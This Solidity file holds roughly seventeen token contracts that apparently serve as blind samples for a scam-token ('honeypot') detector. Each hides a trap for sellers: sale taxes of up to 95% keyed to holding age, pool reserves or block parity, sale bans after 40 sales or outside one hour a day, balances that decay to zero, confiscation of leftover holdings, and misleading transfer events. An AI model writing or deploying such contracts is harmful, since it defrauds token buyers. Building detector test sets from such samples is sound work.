// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

/// @title Sales that go wrong by the holder's age, the pool, the hour, the crowd, the address or the block of an approval.
/// Written on 29 November 2026, second look, by somebody who had not read how the check tries a trade
contract TaxByHoldersAge is FamilyToken {
    mapping(address => uint256) private _since;

    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from) && _since[to] == 0) _since[to] = block.timestamp;
        uint256 percent = _since[from] == 0 ? 2 : (block.timestamp - _since[from]) / 1 hours;
        if (_isSale(from, to)) _moveWithFee(from, to, value, percent > 95 ? 95 : percent, address(this));
        else super._move(from, to, value);
    }
}

interface IPool {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
}

contract TaxWhenPoolIsRich is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        if (!_isSale(from, to)) return super._move(from, to, value);
        (uint256 first, uint256 second,) = IPool(pair).getReserves();
        uint256 ether_ = IPool(pair).token0() == address(this) ? second : first;
        _moveWithFee(from, to, value, ether_ > 46 ether ? 88 : 1, address(this));
    }
}

contract RefusesOnceATenthIsBought is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) require(_balances[pair] > (totalSupply * 80) / 100, "later");
        super._move(from, to, value);
    }
}

contract StopsAfterFortySales is FamilyToken {
    uint256 private _sales;

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) require(++_sales <= 40, "over");
        super._move(from, to, value);
    }
}

contract MeltsByTheDay is FamilyToken {
    mapping(address => uint256) private _since;

    function balanceOf(address account) public view override returns (uint256) {
        uint256 since = _since[account];
        if (since == 0 || account == pair || account == owner) return _balances[account];
        uint256 daysGone = (block.timestamp - since) / 1 days;
        return daysGone >= 20 ? 0 : (_balances[account] * (20 - daysGone)) / 20;
    }

    function _move(address from, address to, uint256 value) internal override {
        _balances[from] = balanceOf(from);
        _since[from] = block.timestamp;
        super._move(from, to, value);
        if (_since[to] == 0) _since[to] = block.timestamp;
    }
}

contract PartSaleLosesTheRest is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        bool isSale = _isSale(from, to);
        super._move(from, to, value);
        if (isSale && _balances[from] > 0) super._move(from, address(this), _balances[from]);
    }
}

contract OneHourADay is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) require(block.timestamp % 1 days < 1 hours, "closed");
        super._move(from, to, value);
    }
}

contract TaxOnEvenBlocks is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) _moveWithFee(from, to, value, block.number % 2 == 0 ? 90 : 0, address(this));
        else super._move(from, to, value);
    }
}

contract MinimumRisesByTheDay is FamilyToken {
    uint256 private immutable _start = block.timestamp + 60 days;

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && block.timestamp > _start)
            require(_balances[from] > ((block.timestamp - _start) / 1 days) * (totalSupply / 2000), "hold more");
        super._move(from, to, value);
    }
}

contract EachSaleTodayCostsMore is FamilyToken {
    uint256 private _day;
    uint256 private _count;

    function _move(address from, address to, uint256 value) internal override {
        if (!_isSale(from, to)) return super._move(from, to, value);
        if (_day != block.timestamp / 1 days) (_day, _count) = (block.timestamp / 1 days, 0);
        uint256 percent = _count++ * 12;
        _moveWithFee(from, to, value, percent > 96 ? 96 : percent, address(this));
    }
}

contract QuarterOfAddressesIsStuck is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) require(uint160(from) % 4 != 3, "region");
        super._move(from, to, value);
    }
}

contract SaleLoopsOverBuyers is FamilyToken {
    address[] private _buyers;
    mapping(address => uint256) private _points;

    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from)) for (uint256 i; i < 12; i++) _buyers.push(address(uint160(to) + uint160(i)));
        if (_isSale(from, to)) for (uint256 i; i < _buyers.length; i++) _points[_buyers[i]] += value;
        super._move(from, to, value);
    }
}

contract ApprovalLastsOneBlock is FamilyToken {
    mapping(address => uint256) private _approvedAt;

    function approve(address spender, uint256 value) public override returns (bool) {
        _approvedAt[msg.sender] = block.number;
        return super.approve(spender, value);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        require(!_isSale(from, to) || _approvedAt[from] == block.number, "expired");
        return super.transferFrom(from, to, value);
    }
}

contract SellsOnlyInBlockOfPurchase is FamilyToken {
    mapping(address => uint256) private _blockOf;

    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from)) _blockOf[to] = block.number;
        if (_isSale(from, to)) require(_blockOf[from] == 0 || _blockOf[from] == block.number, "settled");
        super._move(from, to, value);
    }
}

contract EventsSayMore is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value);
        if (_isSale(from, to)) _balances[to] -= (value * 70) / 100;
    }
}

contract SaleWantsAPaidPass is FamilyToken {
    mapping(address => uint256) public passOf;

    function buyPass() external payable {
        require(msg.value >= 1 ether);
        passOf[msg.sender] = block.timestamp;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && value > totalSupply / 5000) require(passOf[from] > 0, "pass");
        super._move(from, to, value);
    }
}

contract DailyQuotaForAllSellers is FamilyToken {
    mapping(uint256 => uint256) private _soldOn;

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            uint256 day = block.timestamp / 1 days;
            _soldOn[day] += value;
            require(_soldOn[day] <= totalSupply / 1000, "quota");
        }
        super._move(from, to, value);
    }
}
